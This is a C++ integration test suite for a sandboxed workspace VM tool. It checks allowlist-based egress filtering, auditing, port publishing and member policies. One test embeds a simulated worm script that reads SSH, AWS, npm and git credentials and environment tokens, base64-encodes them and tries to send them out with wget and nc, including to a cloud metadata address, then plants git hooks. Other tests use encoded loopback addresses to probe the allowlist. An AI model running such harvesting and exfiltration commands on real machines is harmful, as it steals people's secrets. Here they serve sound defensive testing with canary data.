// Egress on real VMs: no NIC; the guest's only way out is the agent's proxy,
// decided on the host by the allowlist; every attempt is audited. Test
// servers are on this machine's loopback only.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <regex>
#include <thread>

#include "tests/integration/environment.h"
#include "tests/support/http_server.h"

namespace ws::test {
namespace {

namespace fs = std::filesystem;
World& W() { return World::Get(); }

// A loopback HTTP server that records every byte it receives.
class TestServer : public RecordingHttpServer {
 public:
  explicit TestServer(std::string body) : RecordingHttpServer(ListenLoopback(), std::move(body)) {}
};

RunResult Guest(const std::string& ws, const std::string& script) {
  return W().Cli({"exec", "--timeout", "60", ws, "--", "sh", "-c", script});
}

std::string Fetch(const std::string& ws, const std::string& url) {
  // No -T: busybox 1.35 wget crashes with a timeout through a proxy.
  return Guest(ws, "wget -q -O- '" + url + "' 2>&1; echo \" rc=$?\"").out;
}

TEST(Net, OnlyAllowedTargetsAreReachedAndEveryAttemptIsAudited) {
  TestServer allowed("allowed-body"), denied("denied-body");
  const std::string a = std::to_string(allowed.port()), d = std::to_string(denied.port());
  ASSERT_EQ(W().Cli({"create", "net1", "--no-share", "--no-default-allow", "--allow",
                     "127.0.0.1:" + a, "--allow", "localhost:1"})
                .code,
            0);
  EXPECT_NE(Fetch("net1", "http://127.0.0.1:" + a + "/x").find("allowed-body rc=0"),
            std::string::npos);
  // The denied server's address in every spelling, and names not on the list.
  for (std::string host : {"127.0.0.1", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "[::1]",
                           "[::ffff:127.0.0.1]", "0.0.0.0", "[::]", "localhost", "github.com"}) {
    std::string out = Fetch("net1", "http://" + host + ":" + d + "/");
    EXPECT_EQ(out.find("denied-body"), std::string::npos) << host << ": " << out;
    EXPECT_NE(out.find("403"), std::string::npos) << host << ": " << out;
  }
  auto noticed = Guest("net1", "wget -q -O- http://github.com/ >/dev/null 2>&1; true");
  EXPECT_NE(noticed.err.find(
                "workspace: egress to github.com:80 denied: github.com is not on the allowlist"),
            std::string::npos)
      << "the exec that caused a denial hears of it: " << noticed.err;
  auto connect = Guest(
      "net1", "printf 'CONNECT 127.0.0.1:" + d + " HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128");
  EXPECT_NE(connect.out.find("403"), std::string::npos) << connect.out;
  // No way around the proxy: no NIC, no route.
  auto direct =
      Guest("net1", "nc -w 2 203.0.113.1 80 </dev/null 2>&1; ip link 2>&1 | grep -c ether; true");
  EXPECT_NE(direct.out.find("unreachable"), std::string::npos) << direct.out;
  EXPECT_EQ(denied.received(), "") << "a denied server received bytes";
  EXPECT_NE(allowed.received().find("GET /x HTTP/1.1"), std::string::npos);

  auto audit = W().Cli({"audit", "net1", "--json"});
  ASSERT_EQ(audit.code, 0);
  std::istringstream lines(audit.out);
  std::string line;
  int allows = 0, denies = 0;
  while (std::getline(lines, line)) {
    if (line.find("\"decision\":\"allow\"") != std::string::npos) {
      ++allows;
      EXPECT_NE(line.find("\"target\":\"127.0.0.1\",\"port\":" + a), std::string::npos) << line;
      EXPECT_NE(line.find("\"command\":\"wget"), std::string::npos) << "attributed: " << line;
    } else if (line.find("\"decision\":\"deny\"") != std::string::npos) {
      ++denies;
    }
  }
  EXPECT_EQ(allows, 1);
  EXPECT_EQ(denies, 13);
  auto table = W().Cli({"audit", "net1"});
  EXPECT_NE(table.out.find("github.com"), std::string::npos);
  EXPECT_EQ(W().Cli({"destroy", "-f", "net1"}).code, 0);
}

TEST(Net, AllowAndRemoveTakeEffectForTheNextConnection) {
  TestServer server("late-body");
  const std::string p = std::to_string(server.port());
  ASSERT_EQ(W().Cli({"create", "net2", "--no-share", "--no-default-allow"}).code, 0);
  EXPECT_EQ(Fetch("net2", "http://127.0.0.1:" + p + "/").find("late-body"), std::string::npos);
  ASSERT_EQ(W().Cli({"allow", "net2", "127.0.0.1:" + p}).code, 0);
  std::string after = Fetch("net2", "http://127.0.0.1:" + p + "/");
  EXPECT_NE(after.find("late-body rc=0"), std::string::npos)
      << after << W().Cli({"audit", "net2"}).out;
  EXPECT_NE(W().Cli({"inspect", "net2"}).out.find("127.0.0.1:" + p + "  from user"),
            std::string::npos);
  ASSERT_EQ(W().Cli({"allow", "net2", "--remove", "127.0.0.1:" + p}).code, 0);
  EXPECT_EQ(Fetch("net2", "http://127.0.0.1:" + p + "/").find("late-body"), std::string::npos);
  EXPECT_EQ(W().Cli({"allow", "net2", "--remove", "127.0.0.1:" + p}).code, 1) << "not on the list";
  EXPECT_EQ(W().Cli({"allow", "net2", "bad host"}).code, 2);
  EXPECT_EQ(W().Cli({"destroy", "-f", "net2"}).code, 0);
}

TEST(Net, NetNoneHasNoProxyAndDefaultsHoldNoCodeHosts) {
  ASSERT_EQ(W().Cli({"create", "net3", "--no-share", "--net", "none"}).code, 0);
  auto r =
      Guest("net3",
            "env | grep -ci proxy; nc -w 2 127.0.0.1 3128 </dev/null && echo open || echo closed");
  EXPECT_EQ(r.out, "0\nclosed\n") << r.out << r.err;
  EXPECT_EQ(W().Cli({"allow", "net3", "example.org"}).code, 1);
  EXPECT_EQ(W().Cli({"destroy", "-f", "net3"}).code, 0);
  ASSERT_EQ(W().Cli({"create", "net4", "--no-share"}).code, 0);
  auto inspect = W().Cli({"inspect", "net4", "--json"}).out;
  EXPECT_NE(inspect.find("\"source\":\"ai-apis\""), std::string::npos) << inspect;
  for (const char* code_host : {"github.com", "gitlab.com", "bitbucket.org"}) {
    EXPECT_EQ(inspect.find(code_host), std::string::npos) << code_host;
  }
  EXPECT_EQ(W().Cli({"destroy", "-f", "net4"}).code, 0);
}

// A fake install-script worm: reads every secret it can find and tries every
// way out. Nothing of the host's secrets is in the guest to begin with, and
// nothing leaves except to the allowed server (which must see no canary).
TEST(Net, AWormInTheGuestFindsNoSecretAndCannotSendAnythingElsewhere) {
  const std::string home = W().home();
  fs::create_directories(home + "/.ssh");
  fs::create_directories(home + "/.aws");
  std::ofstream(home + "/.ssh/id_ed25519") << "CANARY-ssh-key";
  std::ofstream(home + "/.aws/credentials") << "aws_secret_access_key=CANARY-aws";
  std::ofstream(home + "/.npmrc") << "//registry.npmjs.org/:_authToken=CANARY-home-npmrc";
  std::ofstream(home + "/.git-credentials") << "https://u:CANARY-git@github.com";
  std::string project = W().NewFolder("wormy");
  std::ofstream(project + "/.npmrc") << "_authToken=CANARY-project-npmrc";
  std::ofstream(project + "/.env") << "TOKEN=CANARY-project-env";
  fs::create_directories(project + "/.git/hooks");
  std::ofstream(project + "/package.json") << "{\"name\":\"x\"}";
  TestServer exfil("ok"), denied("nope");
  const std::string ep = std::to_string(exfil.port()), dp = std::to_string(denied.port());
  RunOptions o;
  o.cwd = project;
  o.env["GITHUB_TOKEN"] = "CANARY-env-token";
  o.env["NPM_TOKEN"] = "CANARY-env-npm";
  ASSERT_EQ(
      W().Cli({"create", "wormy", "--no-default-allow", "--allow", "127.0.0.1:" + ep}, o).code, 0);
  std::string worm =
      "loot=$( (env; cat /workspace/.npmrc /workspace/.env ~/.npmrc ~/.ssh/* ~/.aws/* "
      "~/.git-credentials "
      "/root/.ssh/* 2>/dev/null; grep -r CANARY / --exclude-dir=proc --exclude-dir=sys "
      "2>/dev/null) | "
      "base64 | tr -d '\\n'); echo \"found $(echo \"$loot\" | base64 -d 2>/dev/null | grep -c "
      "CANARY)\"; "
      "for t in 127.0.0.1:" +
      dp + " 127.1:" + dp + " [::1]:" + dp + " github.com:443 0.0.0.0:" + dp +
      " 169.254.169.254:80; do wget -q -O- \"http://$t/?d=$loot\" >/dev/null 2>&1; done; "
      "wget -q -O- \"http://127.0.0.1:" +
      ep +
      "/?d=$loot\" >/dev/null 2>&1; "
      "nc -w 2 203.0.113.5 443 </dev/null >/dev/null 2>&1; "
      "echo '#!/bin/sh\ntouch /tmp/pwned' > /workspace/.git/hooks/post-checkout 2>/dev/null; "
      "git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null; true";
  auto r = W().Cli({"exec", "wormy", "--", "sh", "-c", worm}, o);
  EXPECT_NE(r.out.find("found 0"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("CANARY"), std::string::npos);
  EXPECT_EQ(r.err.find("CANARY"), std::string::npos);
  EXPECT_EQ(denied.received(), "") << "bytes reached a server not on the allowlist";
  EXPECT_EQ(exfil.received().find("CANARY"), std::string::npos) << "a canary left the guest";
  // What it found instead were the workspace's decoys: its send to the
  // allowed server was read, recognised and refused (the control that the
  // send did happen), and the alerts name the decoys and the worm's exec.
  EXPECT_EQ(exfil.received().find("GET /?d="), std::string::npos) << "decoys reached the server";
  auto audit = W().Cli({"audit", "wormy", "--json"});
  EXPECT_NE(audit.out.find("\"target\":\"127.0.0.1\",\"port\":" + ep), std::string::npos)
      << audit.out;
  EXPECT_NE(audit.out.find("\"decoys\":[\""), std::string::npos) << audit.out;
  EXPECT_NE(audit.out.find("github-token GITHUB_TOKEN"), std::string::npos) << audit.out;
  auto alerts = W().Cli({"alerts", "wormy", "--json"});
  EXPECT_NE(alerts.out.find("\"decoy\":\"npm-token\",\"where\":\"~/.npmrc\",\"channel\":"
                            "\"egress\",\"target\":\"127.0.0.1:"),
            std::string::npos)
      << alerts.out;
  EXPECT_NE(r.err.find("ALERT: decoy"), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(project + "/.git/hooks/post-checkout"))
      << "a hook was planted on the host";
  EXPECT_EQ(W().Cli({"destroy", "-f", "wormy"}).code, 0);
}

TEST(Net, IdleTunnelsAreCut) {
  TestServer silent("never-sent");  // waits for a request that never comes
  const std::string p = std::to_string(silent.port());
  ASSERT_EQ(
      W().Cli({"create", "idle", "--no-share", "--no-default-allow", "--allow", "127.0.0.1:" + p})
          .code,
      0);
  auto r = Guest("idle", "(printf 'CONNECT 127.0.0.1:" + p +
                             " HTTP/1.1\\r\\n\\r\\n'; sleep 14) | nc 127.0.0.1 3128");
  EXPECT_NE(r.out.find("200 Connection established"), std::string::npos) << r.out << r.err;
  // The audit line is written when the tunnel ends: with the daemon's 4 s
  // limit here, well before the client's 14 s.
  auto audit = W().Cli({"audit", "idle", "--json"}).out;
  std::smatch m;
  ASSERT_TRUE(
      std::regex_search(audit, m, std::regex("\"decision\":\"allow\".*\"duration_ms\":([0-9]+)")))
      << audit;
  EXPECT_LT(std::stoi(m[1]), 11000) << "the idle tunnel was not cut";
  EXPECT_GE(std::stoi(m[1]), 3500);
  EXPECT_EQ(W().Cli({"destroy", "-f", "idle"}).code, 0);
}

TEST(Net, OpenNetworkHasAConfiguredNicAndNoProxy) {
  auto create = W().Cli({"create", "open1", "--no-share", "--net", "open"});
  ASSERT_EQ(create.code, 0) << create.err;
  EXPECT_NE(create.err.find("unfiltered"), std::string::npos) << "create warns";
  auto r = Guest("open1",
                 "ip addr show eth0 | grep -o 'inet [0-9./]*'; ip route | grep -c default; env | "
                 "grep -ci proxy");
  EXPECT_EQ(r.out, "inet 10.0.2.15/24\n1\n0\n") << r.out << r.err;
  EXPECT_EQ(W().Cli({"create", "open2", "--no-share", "--net", "open", "--allow", "x.org"}).code,
            2);
  EXPECT_EQ(W().Cli({"destroy", "-f", "open1"}).code, 0);
}

int HttpGet(const std::string& host, int port, std::string* body) {
  auto r = ws::test::Run(
      {"curl", "-s", "-m", "5", "http://" + host + ":" + std::to_string(port) + "/index.html"});
  *body = r.out;
  return r.code;
}

TEST(Net, PublishedGuestPortsAreReachableOnHostLoopbackOnly) {
  ASSERT_EQ(W().Cli({"create", "pub", "--no-share", "--publish", "18181"}).code, 0);
  ASSERT_EQ(Guest("pub", "mkdir -p /tmp/www && echo served-from-guest > /tmp/www/index.html").code,
            0);
  auto port = W().Cli({"port", "pub", "8080"});
  ASSERT_EQ(port.code, 0) << port.err;
  std::smatch m;
  ASSERT_TRUE(std::regex_search(port.out, m, std::regex("127\\.0\\.0\\.1:([0-9]+) -> pub:8080")))
      << port.out;
  const int host_port = std::stoi(m[1]);
  std::string body;
  RunOptions o;
  o.env["WORKSPACE_STATE_DIR"] = W().state_dir();
  int server =
      Spawn({W().bin(), "exec", "pub", "--", "httpd", "-f", "-p", "8080", "-h", "/tmp/www"}, o);
  ReapOnExit guard(server);
  int rc = 1;
  for (int i = 0; i < 50 && rc != 0; ++i) {
    rc = HttpGet("127.0.0.1", host_port, &body);
    if (rc != 0) std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  EXPECT_EQ(rc, 0);
  EXPECT_EQ(body, "served-from-guest\n");
  // A port where nothing listens in the guest: closed at once, and the agent
  // connection (still carrying the server's exec) stays good for the next one.
  auto idle = W().Cli({"port", "pub", "8089"});
  ASSERT_EQ(idle.code, 0);
  ASSERT_TRUE(std::regex_search(idle.out, m, std::regex("127\\.0\\.0\\.1:([0-9]+) -> pub:8089")));
  EXPECT_NE(HttpGet("127.0.0.1", std::stoi(m[1]), &body), 0);
  EXPECT_EQ(HttpGet("127.0.0.1", host_port, &body), 0);
  EXPECT_EQ(body, "served-from-guest\n");
  EXPECT_NE(HttpGet("127.0.0.2", host_port, &body), 0) << "bound to 127.0.0.1 only";
  auto list = W().Cli({"port", "pub", "--list"});
  EXPECT_NE(list.out.find("127.0.0.1:18181 -> pub:18181"), std::string::npos) << list.out;
  ASSERT_EQ(W().Cli({"port", "pub", "--remove", std::to_string(host_port)}).code, 0);
  EXPECT_NE(HttpGet("127.0.0.1", host_port, &body), 0) << "still published after --remove";
  EXPECT_EQ(W().Cli({"port", "pub", "99999"}).code, 2);
  kill(server, SIGTERM);
  waitpid(server, nullptr, 0);

  // A published port whose host port was taken while the workspace was
  // stopped: start says so, inspect shows it, and --remove clears it.
  ASSERT_EQ(W().Cli({"stop", "pub"}).code, 0);
  int taken = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int one = 1;
  setsockopt(taken, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(18181);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(taken, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  ASSERT_EQ(listen(taken, 1), 0);
  auto start = W().Cli({"start", "pub"});
  EXPECT_EQ(start.code, 0) << start.err;
  EXPECT_NE(start.err.find("port 18181 (guest 18181): host port 18181 is in use"),
            std::string::npos)
      << start.err;
  EXPECT_NE(start.err.find("workspace port pub --remove 18181"), std::string::npos) << start.err;
  auto inspect = W().Cli({"inspect", "pub", "--json"});
  EXPECT_NE(inspect.out.find("\"port_problems\":[\"18181 (guest 18181): host port 18181 is in use"),
            std::string::npos)
      << inspect.out;
  ASSERT_EQ(W().Cli({"port", "pub", "--remove", "18181"}).code, 0);
  inspect = W().Cli({"inspect", "pub", "--json"});
  EXPECT_NE(inspect.out.find("\"name\""), std::string::npos)
      << inspect.out;  // control: inspect answered
  EXPECT_NE(inspect.out.find("\"port_problems\":[]"), std::string::npos) << inspect.out;
  close(taken);
  EXPECT_EQ(W().Cli({"destroy", "-f", "pub"}).code, 0);
}

}  // namespace
}  // namespace ws::test

namespace ws::test {
namespace {

// The daemon's policy for members (issue #17): a member's loopback entries
// and host ports below 1024 are refused, naming the policy, until root's
// daemon config allows them; the daemon's own network position (loopback)
// is not a member's to reach through a name that resolves there either.
TEST(Net, AMembersLoopbackEntriesAndLowPortsFollowTheDaemonsPolicy) {
  EnsureUser("wstest-member", true);
  TestServer server("member-body");
  const std::string p = std::to_string(server.port());
  std::remove(W().daemon_config().c_str());
  const std::string m = "wstest-member";
  ASSERT_EQ(W().Cli({"list"}).code, 0);  // a daemon is running
  auto made = W().CliAs(m, {"create", "pol", "--no-share", "--no-default-allow"});
  ASSERT_EQ(made.code, 0) << made.err;
  auto literal = W().CliAs(m, {"allow", "pol", "127.0.0.1:" + p});
  EXPECT_EQ(literal.code, 1);
  EXPECT_NE(literal.err.find("not for members"), std::string::npos) << literal.err;
  EXPECT_NE(literal.err.find(W().daemon_config()), std::string::npos) << literal.err;
  EXPECT_EQ(W().CliAs(m, {"allow", "pol", "169.254.169.254"}).code, 1);
  EXPECT_EQ(W().CliAs(m, {"allow", "pol", "localhost:" + p}).code, 1);
  auto at_create =
      W().CliAs(m, {"create", "pol2", "--no-share", "--no-default-allow", "--allow", "10.1.2.3"});
  EXPECT_EQ(at_create.code, 1) << at_create.err;
  EXPECT_EQ(W().CliAs(m, {"list"}).out.find("pol2"), std::string::npos) << "nothing half-made";

  // A name that resolves to loopback: allowed as a name, refused at connect.
  {
    std::ofstream hosts("/etc/hosts", std::ios::app);
    hosts << "127.0.0.1 wstest-loopback.test\n";
  }
  ASSERT_EQ(W().CliAs(m, {"allow", "pol", "wstest-loopback.test:" + p}).code, 0);
  std::string via_name = Fetch("pol", "http://wstest-loopback.test:" + p + "/");
  ws::test::Run({"sed", "-i", "/wstest-loopback.test/d", "/etc/hosts"});
  EXPECT_EQ(via_name.find("member-body"), std::string::npos) << via_name;
  EXPECT_NE(W().Cli({"audit", "pol"}).out.find("resolves to 127.0.0.1"), std::string::npos);

  auto low = W().CliAs(m, {"port", "pol", "80:8000"});
  EXPECT_EQ(low.code, 1);
  EXPECT_NE(low.err.find("below 1024"), std::string::npos) << low.err;
  // An unnumbered publish of a low guest port takes a high host port.
  auto auto_port = W().CliAs(m, {"port", "pol", "80"});
  ASSERT_EQ(auto_port.code, 0) << auto_port.err;
  EXPECT_NE(auto_port.out.find(" -> pol:80"), std::string::npos) << auto_port.out;
  EXPECT_EQ(auto_port.out.find("127.0.0.1:80 "), std::string::npos) << auto_port.out;

  // Positive control: root's config allows both, the same requests work.
  std::ofstream(W().daemon_config())
      << "[members]\nallow_private_hosts = true\nallow_low_ports = true\n";
  ASSERT_EQ(W().CliAs(m, {"allow", "pol", "127.0.0.1:" + p}).code, 0);
  EXPECT_NE(Fetch("pol", "http://127.0.0.1:" + p + "/").find("member-body rc=0"),
            std::string::npos);
  auto low_ok = W().CliAs(m, {"port", "pol", "1023:8000"});
  EXPECT_EQ(low_ok.code, 0) << low_ok.err;
  std::remove(W().daemon_config().c_str());
  EXPECT_EQ(W().CliAs(m, {"destroy", "-f", "pol"}).code, 0);
}

}  // namespace
}  // namespace ws::test
